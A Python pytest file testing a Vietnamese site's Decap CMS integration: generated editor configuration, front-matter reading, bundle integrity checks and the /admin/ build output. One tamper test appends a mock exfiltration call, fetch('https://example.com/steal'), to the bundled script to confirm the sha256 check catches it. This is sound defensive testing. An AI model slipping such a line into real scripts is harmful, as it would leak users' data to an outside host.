"""The web editor (trangxa.cms): its generated configuration against the settings, the registry
and the readers; the bundle's check; what a build writes into /admin/, and what it does not."""

import shutil
import textwrap

import pytest
import yaml
from conftest import CONTENT, ROOT, build_site
from pelican.settings import read_settings

from trangxa.cms import bundle
from trangxa.cms.config import DATETIME_FORMAT, cms_config, config_yaml
from trangxa.documents.model import KNOWN_FIELDS as DOCUMENT_FIELDS
from trangxa.front_matter.front_matter import FrontMatterMarkdownReader
from trangxa.lib.problems import PROBLEMS
from trangxa.organizations.registry import load_registry

# What the article reader and the checks take (docs/editors/viet-bai.md), and the body.
ARTICLE_FIELDS = {"title", "date", "author", "photographer", "credit", "category", "organizations",
                  "summary", "image", "tags", "slug", "status", "body"}  # fmt: skip


@pytest.fixture(scope="module")
def settings():
    return read_settings(str(ROOT / "pelicanconf.py"), override={"PATH": str(CONTENT)})


@pytest.fixture(scope="module")
def registry(settings):
    return load_registry(CONTENT / settings["ORGANIZATIONS_REGISTRY"], settings)


@pytest.fixture(scope="module")
def config(settings, registry):
    return cms_config(settings, registry)


def collection(config, name):
    return next(c for c in config["collections"] if c["name"] == name)


def field(config, collection_name, name):
    return next(f for f in collection(config, collection_name)["fields"] if f["name"] == name)


def test_every_category_is_selectable_and_nothing_else(config, settings):
    category = field(config, "bai-viet", "category")
    assert category["widget"] == "select"
    assert category["options"] == settings["SITE_CATEGORIES"]
    assert category["default"] == settings["DEFAULT_CATEGORY"]


def test_every_organization_is_selectable_by_its_slug_and_nothing_else(config, registry):
    assert registry.organizations and not registry.problems
    expected = [{"label": o.name, "value": o.slug} for o in registry.organizations]
    organizations = field(config, "bai-viet", "organizations")
    assert organizations["widget"] == "select" and organizations["multiple"] is True
    assert organizations["options"] == expected
    assert field(config, "van-ban", "issuer")["options"] == expected


def test_the_documents_lists_are_the_settings(config, settings):
    assert field(config, "van-ban", "form")["options"] == list(settings["DOCUMENTS_FORMS"])
    assert field(config, "van-ban", "field")["options"] == list(settings["DOCUMENTS_FIELDS"])


def test_fields_are_the_front_matter_the_readers_accept(config):
    articles = [f["name"] for f in collection(config, "bai-viet")["fields"]]
    assert set(articles) <= ARTICLE_FIELDS
    required = {"title", "date", "author", "photographer", "category", "organizations", "summary", "image"}
    assert required <= set(articles)
    documents = [f["name"] for f in collection(config, "van-ban")["fields"]]
    assert set(documents) == {*DOCUMENT_FIELDS, "body"}
    assert [f["name"] for f in collection(config, "trang")["fields"]] == ["title", "body"]


def test_files_go_where_the_site_reads_them(config, settings):
    articles, pages, documents = (collection(config, n) for n in ("bai-viet", "trang", "van-ban"))
    assert articles["folder"] == "content/bai-viet" and articles["path"] == "{{year}}/{{slug}}"
    assert pages["folder"] == "content/trang"
    assert documents["folder"] == f"content/{settings['DOCUMENTS_PATH']}"
    for entry in (articles, pages, documents):
        assert entry["format"] == "yaml-frontmatter" and entry["extension"] == "md"
    # Photos where articles keep them, written as a path from content/ (the reader's form).
    assert (articles["media_folder"], articles["public_folder"]) == ("/content/images", "images")
    assert (config["media_folder"], config["public_folder"]) == ("content/images", "images")
    # A document's attachments next to it, named as `files:` names them.
    assert (documents["media_folder"], documents["public_folder"]) == ("", "")
    assert config["slug"] == {"encoding": "ascii", "clean_accents": True, "sanitize_replacement": "-"}
    assert config["locale"] == "vi"
    assert config["publish_mode"] == "editorial_workflow"


def test_local_backend_is_for_development_only(settings, registry):
    assert cms_config(settings, registry)["local_backend"] == {"url": "http://127.0.0.1:8081/api/v1"}
    published = read_settings(str(ROOT / "publishconf.py"), override={"PATH": str(CONTENT)})
    assert "local_backend" not in cms_config(published, registry)
    github = {**published, "CMS_BACKEND": {"name": "github", "repo": "ubnd/trang", "branch": "main"}}
    assert cms_config(github, registry)["backend"]["name"] == "github"


def read_front_matter(tmp_path, settings, text):
    (tmp_path / "bai-viet").mkdir(exist_ok=True)
    (tmp_path / "images").mkdir(exist_ok=True)
    (tmp_path / "images" / "hoi-nghi.jpg").write_bytes(b"\xff\xd8\xff")
    path = tmp_path / "bai-viet" / "bai.md"
    path.write_text(text, encoding="utf-8")
    reader = FrontMatterMarkdownReader({**settings, "PATH": str(tmp_path), "FRONT_MATTER_TYPOGRIFY": False})
    return reader.read(str(path))


def test_what_the_editor_writes_is_read_day_first_without_a_problem(tmp_path, settings, config):
    """The file as Decap writes it (YAML front matter, the date in the widget's format)."""
    assert field(config, "bai-viet", "date")["format"] == DATETIME_FORMAT == "DD/MM/YYYY HH:mm"
    text = textwrap.dedent("""\
        ---
        title: Hội nghị tổng kết công tác Đảng năm 2026
        date: 05/03/2026 08:30
        author: Minh Chiến
        photographer: Vũ Chiến
        category: Kinh tế
        organizations:
          - dang-uy
          - hoi-nong-dan
        summary: Sáng 5/3, Đảng ủy xã tổ chức hội nghị.
        image: images/hoi-nghi.jpg
        ---
        Nội dung.
        """)
    _content, metadata = read_front_matter(tmp_path, settings, text)
    assert metadata[PROBLEMS] == []
    assert (metadata["date"].day, metadata["date"].month, metadata["date"].hour) == (5, 3, 8)
    assert metadata["organizations"] == ["dang-uy", "hoi-nong-dan"]
    assert metadata["image"] == "images/hoi-nghi.jpg"


def test_the_configuration_file_is_yaml_decap_reads(config):
    text = config_yaml(config)
    assert text.startswith("# Tạo tự động")
    assert yaml.safe_load(text) == config


def test_a_missing_or_changed_bundle_is_one_clear_error(tmp_path):
    with pytest.raises(bundle.BundleError, match=r"npm ci --prefix cms") as missing:
        bundle.verified_bundle({"CMS_PACKAGE": str(tmp_path / "decap-cms")})
    assert "\n" not in str(missing.value) and missing.value.expected_failure
    copy = tmp_path / "decap-cms"
    unused = shutil.ignore_patterns("*.map", "cms.js*", "*.cms.js")
    shutil.copytree(bundle.DEFAULT_PACKAGE, copy, ignore=unused)
    assert bundle.verified_bundle({"CMS_PACKAGE": str(copy)})[2] == bundle.DIGEST
    with open(copy / "dist" / "decap-cms.js", "a", encoding="utf-8") as script:
        script.write("\nfetch('https://example.com/steal');\n")
    with pytest.raises(bundle.BundleError, match="sha256"):
        bundle.verified_bundle({"CMS_PACKAGE": str(copy)})


def test_the_installed_bundle_is_the_pinned_one_and_loads_nothing_from_elsewhere():
    dist, names, digest = bundle.verified_bundle({})
    assert digest == bundle.DIGEST
    assert "decap-cms.js" in names and not any(n.endswith(".map") for n in names)
    text = "\n".join((dist / n).read_text(encoding="utf-8") for n in names if n.endswith(".js"))
    for host in ("fonts.googleapis.com", "fonts.gstatic.com", "unpkg.com", "cdn.jsdelivr.net", "cdnjs"):
        assert host not in text


def test_a_build_with_the_editor_writes_admin_and_keeps_it_out_of_sitemap(tmp_path, settings, registry):
    output = tmp_path / "site"
    warnings = build_site(output, CMS_ENABLED=True, SEARCH_INDEX=False, RESPONSIVE_IMAGE_WIDTHS=[])
    assert [w for w in warnings if w.name.startswith("trangxa.cms")] == []
    admin = output / "admin"
    written = yaml.safe_load((admin / "config.yml").read_text(encoding="utf-8"))
    assert written == cms_config({**settings, "PATH": str(CONTENT)}, registry)
    page = (admin / "index.html").read_text(encoding="utf-8")
    assert '<html lang="vi">' in page and "<title>Biên tập – " in page
    assert 'http-equiv="Content-Security-Policy"' in page and "noindex" in page
    assert (admin / "decap-cms.js").is_file() and (admin / "preview.js").is_file()
    assert "admin/" not in (output / "sitemap.xml").read_text(encoding="utf-8")
    assert "Disallow: /admin/" in (output / "robots.txt").read_text(encoding="utf-8")
    # The site's own pages keep their strict policy: no eval, no inline style.
    home = (output / "index.html").read_text(encoding="utf-8")
    assert "unsafe-eval" not in home and "unsafe-inline" not in home
    # The editor turned off again: its folder goes, and nothing of Node is needed.
    build_site(output, CMS_ENABLED=False, CMS_PACKAGE=str(tmp_path / "nowhere"), SEARCH_INDEX=False,
               RESPONSIVE_IMAGE_WIDTHS=[])  # fmt: skip
    assert not admin.exists()
    assert "Disallow" not in (output / "robots.txt").read_text(encoding="utf-8")
